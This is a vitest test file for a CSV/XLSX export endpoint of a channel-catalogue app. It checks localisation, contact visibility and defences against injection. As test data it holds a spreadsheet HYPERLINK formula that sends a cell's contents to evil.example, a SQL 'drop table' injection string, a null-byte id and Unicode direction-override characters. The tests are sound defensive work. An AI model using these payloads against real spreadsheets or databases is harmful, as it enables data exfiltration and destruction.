import { parseCsv } from 'hucre/csv'
import { readXlsx } from 'hucre/xlsx'
import { expect, test } from 'vitest'
import type { BodyGiven } from '#shared/api/contract.ts'
import { en, type Messages } from '#shared/i18n/en.ts'
import { ru } from '#shared/i18n/ru.ts'
import { SEED_LINES_MAX } from '#shared/rules/bounds.ts'
import { addChannels } from '#test/support/catalogue-world.ts'
import { logIn, makeChannel, makePerson, setAddresses } from '#test/support/factories.ts'
import { buy } from '#test/support/statistics-world.ts'
import { type TestApp, useTestApp } from '#test/support/test-app.ts'
import type { TestClient } from '#test/support/test-client.ts'

const world = useTestApp({ env: { RATE_LIMITS: 'off' } })

type Rows = BodyGiven<'POST /seeds/exports'>['rows']

const download = (client: TestClient, rows: Rows, format: 'csv' | 'xlsx' = 'csv', language = 'en') =>
  client.call('POST /seeds/exports', { body: { format, rows }, headers: { 'accept-language': language } })

/** The rows of a file by column; cells without a value are left out. */
function recordsOf(
  [headings = [], ...rows]: readonly (readonly unknown[])[],
  { seeds }: Pick<Messages, 'seeds'> = en,
) {
  const columns = new Map(Object.entries(seeds.columns).map(([column, heading]) => [heading, column]))
  return rows.map((row) =>
    Object.fromEntries(
      row
        .map((cell, at) => [columns.get(String(headings[at])) ?? headings[at], cell] as const)
        .filter(([, cell]) => cell !== '' && cell !== null),
    ),
  )
}

const FORMULA = '=HYPERLINK("https://evil.example/?"&A1;"free")'

const FACTS = {
  name: FORMULA,
  platformId: 'UCexportexportexportexpo',
  subscribers: 12_345,
  contentTypes: ['Education', 'Tech Reviews'],
  audiences: ['Youth'],
  country: 'DE',
  language: 'de',
  lastUploadAt: new Date('2026-01-02T22:04:05Z'),
  uploadsCheckedAt: new Date('2026-03-10T09:00:00Z'),
  hasContact: true,
} as const

test('a file has a row for each line, in words, and runs no formula', async () => {
  await addChannels(world.app, [FACTS])
  const rows = [
    { line: '+1, "north"; ', channelId: FACTS.platformId },
    { line: '@nobody', channelId: null },
    { line: 'gone since', channelId: 'UCnobodynobodynobodynobo' },
  ]
  const csv = await download(world.client(), rows)
  expect(csv.headers.get('content-disposition')).toBe('attachment; filename="channelbook-list.csv"')
  for (const cell of csv.text.split(/^|,(?=")/m)) expect(cell).not.toMatch(/^"[-=+@\t\r]/)
  expect(recordsOf(parseCsv(csv.text))).toEqual([
    {
      line: '\'+1, "north";',
      result: 'Found',
      channel_name: `'${FORMULA}`,
      subsCount: '12345',
      content_type: 'Tech Reviews, Education',
      targetAudience: 'Youth',
      country: 'Germany',
      language: 'German',
      lastUploadAt: '2026-01-03',
      hasContact: 'Available',
      channelId: FACTS.platformId,
    },
    { line: "'@nobody" },
    { line: 'gone since', result: 'Not found' },
  ])
  const xlsx = await download(world.client(), rows, 'xlsx')
  const [first] = recordsOf((await readXlsx(xlsx.bytes)).sheets[0]!.rows)
  expect(first).toMatchObject({
    channel_name: FORMULA,
    subsCount: 12_345,
    lastUploadAt: new Date('2026-01-03T00:00:00Z'),
  })
})

test('a Russian file has Russian words', async () => {
  const [id] = await addChannels(world.app, [{ ...FACTS, name: 'Северный цех', platformId: null }])
  const { text } = await download(world.client(), [{ line: 'цех', channelId: String(id) }], 'csv', 'ru')
  expect(recordsOf(parseCsv(text, { delimiter: ';' }), ru)).toEqual([
    {
      line: 'цех',
      result: 'Найден',
      channel_name: 'Северный цех',
      subsCount: '12345',
      content_type: expect.stringContaining('Обзоры'),
      targetAudience: 'Молодёжь',
      country: 'Германия',
      language: 'немецкий',
      lastUploadAt: '2026-01-03',
      hasContact: 'Есть',
      channelId: String(id),
    },
  ])
})

test('a file says of each line how it came out, and believes nobody about channels', async () => {
  const [id] = await addChannels(world.app, [{ ...FACTS, name: 'Result Mill', platformId: null }])
  const results = ['found', 'chosen', 'open', 'unknown', 'log_in', 'quota', 'unavailable'] as const
  const rows = [
    ...results.map((result) => ({ line: `nothing, ${result}`, channelId: null, result })),
    ...results.map((result) => ({ line: `channel, ${result}`, channelId: String(id), result })),
    { line: 'gone', channelId: 'UCnobodynobodynobodynobo', result: 'chosen' as const },
    { line: 'nothing said', channelId: null },
  ]
  for (const [language, texts] of [
    ['en', en],
    ['ru', ru],
  ] as const) {
    const { text } = await download(world.client(), rows, 'csv', language)
    const { found, chosen, open, unknown, log_in, quota, unavailable } = texts.seeds.outcomes
    expect(
      recordsOf(parseCsv(text, { delimiter: language === 'ru' ? ';' : ',' }), texts).map(
        ({ result }) => result,
      ),
    ).toEqual([
      unknown,
      unknown,
      open,
      unknown,
      log_in,
      quota,
      unavailable,
      found,
      chosen,
      found,
      found,
      found,
      found,
      found,
      unknown,
      undefined,
    ])
  }
  const body = { format: 'csv', rows: [{ line: 'x', channelId: null, result: '=1+1' }] } as never
  expect((await world.client().call('POST /seeds/exports', { body })).status).toBe(400)
})

test('lines are written without control and direction characters', async () => {
  const rows = [{ line: '\u202egnp.krow\u202c\u0007 North \u2066Mill', channelId: null }]
  for (const format of ['csv', 'xlsx'] as const) {
    const file = await download(world.client(), rows, format)
    const cells = format === 'csv' ? parseCsv(file.text) : (await readXlsx(file.bytes)).sheets[0]!.rows
    expect(recordsOf(cells)).toEqual([{ line: 'gnp.krow North Mill' }])
  }
})

test('of contacts, a file has only those that its reader has bought and that are not withheld', async () => {
  const { app } = world
  const [bought, withheld, other] = [await makeChannel(app), await makeChannel(app), await makeChannel(app)]
  const client = await logIn(world, await makePerson(app, { uses: 2 }))
  await buy(client, bought)
  await buy(client, withheld)
  await setAddresses(app.db, withheld, { suppressed_at: app.clock.now() })
  const rows = [bought, withheld, other].map(({ channelId, name: line }) => ({ line, channelId }))
  const contactsFor = async (reader: TestClient) =>
    recordsOf(parseCsv((await download(reader, rows)).text)).map((row) => [row['hasContact'], row['email']])
  expect(await contactsFor(client)).toEqual([
    ['Yours', bought.addresses[0]],
    ['Available', undefined],
    ['Available', undefined],
  ])
  for (const reader of [world.client(), await logIn(world, await makePerson(app))]) {
    expect(await contactsFor(reader)).toEqual(rows.map(() => ['Available', undefined]))
  }
})

test('channels that are gone, and made-up ones where those are not served, are unknown', async () => {
  const [gone, demo] = [
    await makeChannel(world.app, { isGone: true }),
    await makeChannel(world.app, { isDemo: true }),
  ]
  const rows = [gone, demo].map(({ channelId }) => ({ line: 'x', channelId }))
  const known = async (testApp: TestApp) =>
    recordsOf(parseCsv((await download(testApp.client(), rows)).text)).map((row) => row['channel_name'])
  expect(await known(world)).toEqual([undefined, world.app.demo !== null ? demo.name : undefined])
})

test('lists beyond the bound, and hostile ids, are refused or unknown', async () => {
  const row = { line: 'x', channelId: null }
  const tooMany = Array.from({ length: SEED_LINES_MAX + 1 }, () => row)
  expect((await download(world.client(), tooMany)).status).toBe(400)
  expect((await download(world.client(), [])).status).toBe(400)
  const hostile = ["'; drop table channel; --", '1e400', '99999999999999999999', '%00', '-1', 'null']
  const { text } = await download(
    world.client(),
    hostile.map((channelId) => ({ line: 'x', channelId })),
  )
  expect(recordsOf(parseCsv(text))).toEqual(hostile.map(() => ({ line: 'x', result: 'Not found' })))
})
